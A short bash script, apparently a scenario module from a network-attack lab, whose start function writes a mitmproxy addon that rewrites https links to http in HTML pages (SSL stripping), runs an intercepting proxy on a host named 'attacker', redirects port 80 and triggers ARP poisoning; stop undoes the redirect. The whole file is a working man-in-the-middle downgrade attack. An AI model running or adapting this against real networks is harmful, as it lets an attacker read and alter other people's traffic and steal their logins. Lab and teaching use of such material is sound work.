# shellcheck shell=bash
# Links to https lose their "s" in every page; redirects stay as they are.
start() { cat >"$S/run/links.py" <<'P'
def response(flow):
    if flow.request.scheme == "http" and "html" in flow.response.headers.get("content-type", ""):
        flow.response.text = flow.response.text.replace("https://", "http://")
P
  mitm attacker mitm "$S/run/mitmca" -s "$S/run/links.py"; redirect attacker eth0 80 8080; arp_mitm; }
stop() { unredirect attacker; }
